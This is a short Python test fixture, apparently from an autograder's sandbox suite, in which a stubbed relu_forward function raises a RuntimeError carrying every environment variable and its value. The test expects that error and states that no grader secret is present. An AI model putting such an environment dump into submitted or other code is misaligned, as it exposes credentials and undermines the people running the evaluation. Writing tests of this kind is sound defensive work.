"""Raises with its whole environment in the message: no grader secret is in it."""

import os

OUTCOME = "RuntimeError"


def relu_forward(x):
    out = None
    raise RuntimeError(" ".join(f"{k}={v}" for k, v in os.environ.items()))
    cache = x
    return out, cache
